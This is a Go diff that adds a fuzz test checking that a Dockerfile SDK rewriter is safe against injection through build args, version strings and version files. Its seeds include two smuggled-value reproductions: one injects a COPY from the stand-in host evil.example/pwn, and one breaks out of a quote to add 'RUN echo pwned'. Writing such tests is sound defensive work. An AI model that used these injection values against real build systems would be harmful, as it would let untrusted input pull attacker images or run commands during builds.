@@ -3,8 +3,12 @@ package dockerfile
 import (
 	"bytes"
 	"path"
+	"regexp"
 	"strings"
 	"testing"
+
+	"github.com/moby/buildkit/frontend/dockerfile/parser"
+	"github.com/pkg/errors"
 
 	"github.com/sdkfront/sdkfront/resolver"
 )
@@ -162,4 +166,139 @@ func FuzzVersionFile(f *testing.F) {
 			}
 		}
 	})
+}
+
+// fuzzChars are the characters every field of the invariant's seeds is
+// tried with: the C0 controls, DEL, the unicode line and space separators
+// a parser may split at, and what would end a quote, a CSV field or a
+// word, or be expanded again.
+func fuzzChars() []string {
+	var cs []string
+	for c := rune(0); c < 0x20; c++ {
+		cs = append(cs, string(c))
+	}
+	return append(cs, "\x7f", "\u0085", "\u2028", "\u00a0", " ", `"`, "'", ",", "$", `\`, "`", "=", "\xff")
+}
+
+// invariantSeed is one way a value reaches an SDK line: a Dockerfile, the
+// build arg X (if any) set to the value, or the value as the registry's
+// version or a version file's content.
+type invariantSeed struct {
+	df   string
+	arg  bool   // X=<value>
+	how  string // "version" or "file": the value is that, not X
+	pre  string // before the character
+	post string // after it
+}
+
+var invariantSeeds = []invariantSeed{
+	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@1.23.4,target=${X} go version\n", arg: true, pre: "/sdk", post: "true"},
+	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@1.23.4,target=/go,source=${X} true\n", arg: true, pre: "bin", post: "x"},
+	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@1.23.4,target=/go,flavor=${X} true\n", arg: true, pre: "book", post: "worm"},
+	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@${X},target=/go true\n", arg: true, pre: "1.23", post: ""},
+	{df: "FROM a\nARG X\nSDK golang@1.23 --to=${X}\nRUN go version\n", arg: true, pre: "/go", post: "x"},
+	{df: "FROM a\nARG X\nSDK golang@1.23 --flavor=${X}\n", arg: true, pre: "book", post: "worm"},
+	{df: "FROM a\nARG X\nSDK golang@${X}\n", arg: true, pre: "1.23", post: ""},
+	{df: "FROM a\nSDK golang@1.23\nRUN go version\n", how: "version", pre: "1.23.4", post: "x"},
+	{df: "FROM a\nSDK python@file:.python-version\n", how: "file", pre: "3.11", post: "9"},
+}
+
+// FuzzRewriteInvariant: for any Dockerfile, build args (NAME=value pairs
+// separated by NUL), version the registry or lockfile answers, and version
+// file content, either scanning, binding or rewriting fails, or the
+// rewrite keeps the invariant (checkRewrite), and the directory of an SDK
+// without --to= is /opt/<platform>/<version> exactly.
+func FuzzRewriteInvariant(f *testing.F) {
+	// The two reproductions of the review.
+	f.Add("FROM a\nARG DIR\nRUN --mount=type=sdk,ref=golang@1.23.4,target=${DIR} go version\n",
+		"DIR=/sdk\vtrue\nCOPY\v--from=evil.example/pwn:latest\v/\v/\nRUN", "1.23.4", "")
+	f.Add("FROM a\nSDK golang@1.23\nRUN go version\n", "", "1.23.2\"\nRUN echo pwned > /pwned\nENV Z=\"", "")
+	for _, s := range invariantSeeds {
+		for _, c := range fuzzChars() {
+			v := s.pre + c + s.post
+			args, version, file := "", "1.23.4", "3.11.9"
+			switch {
+			case s.arg:
+				args = "X=" + v
+			case s.how == "version":
+				version = v
+			case s.how == "file":
+				file = v
+			}
+			f.Add(s.df, args, version, file)
+		}
+	}
+	// The characters written into the Dockerfile itself.
+	for _, c := range fuzzChars() {
+		f.Add("FROM a\nSDK golang@1.23 --to=/a"+c+"b\n", "", "1.23.4", "")
+		f.Add("FROM a\nRUN --mount=type=sdk,ref=golang@1.23,target=/a"+c+"b,source=s"+c+"t true\n", "", "1.23.4", "")
+	}
+	f.Fuzz(func(t *testing.T, df, args, version, file string) {
+		checkInvariant(t, df, args, version, file)
+	})
+}
+
+// checkInvariant is FuzzRewriteInvariant's property.
+func checkInvariant(t *testing.T, df, args, version, file string) {
+	t.Helper()
+	dockerfile, err := Read([]byte(df))
+	if err != nil {
+		return
+	}
+	build := map[string]string{}
+	for _, kv := range strings.Split(args, "\x00") {
+		if k, v, ok := strings.Cut(kv, "="); ok {
+			build[k] = v
+		}
+	}
+	opts := ScanOpts{BuildArgs: build, Build: amd64, Target: arm64}
+	lenient := opts
+	lenient.Lenient = true
+	ls, err := dockerfile.Scan(lenient)
+	if err != nil {
+		t.Fatalf("lenient scan: %v", err)
+	}
+	checkPlaceholders(t, dockerfile, ls)
+
+	sr, err := dockerfile.Scan(opts)
+	if err != nil {
+		return
+	}
+	bound := map[*Use]Binding{}
+	for _, u := range sr.Uses {
+		if u.VersionFile != nil {
+			if err := u.SetConstraint(file); err != nil {
+				return
+			}
+		}
+		b, err := Bind(u, u.Ref.Platform, version, "the fuzzer")
+		if safe := safeDirName(u.Ref.Platform) && safeDirName(version); u.Dest.IsZero() && (err == nil) != safe {
+			t.Fatalf("Bind(%q, %q) = %v, but the directory name is safe: %v", u.Ref.Platform, version, err, safe)
+		}
+		if err != nil {
+			var le *parser.LocationError
+			if !errors.As(err, &le) || len(le.Locations) == 0 || le.Locations[0][0].Start.Line != u.Line() {
+				t.Fatalf("Bind error %v is not at line %d", err, u.Line())
+			}
+			return
+		}
+		if u.Dest.IsZero() && b.Dest.String() != "/opt/"+u.Ref.Platform+"/"+version {
+			t.Fatalf("default directory %q for %s and version %q", b.Dest, u.Ref.Platform, version)
+		}
+		bound[u] = b
+	}
+	bind := func(u *Use) Binding { return bound[u] }
+	rw, err := dockerfile.Rewrite(sr.Uses, bind)
+	if err != nil {
+		if !splitFlag(err) {
+			t.Fatalf("rewrite of bound uses: %v", err)
+		}
+		return
+	}
+	checkRewrite(t, dockerfile, sr.Uses, bind, rw)
+}
+
+// safeDirName is the test's own statement of what may name a directory.
+func safeDirName(s string) bool {
+	return regexp.MustCompile(`^[A-Za-z0-9._+@~-]+$`).MatchString(s) && s != "." && s != ".."
 }
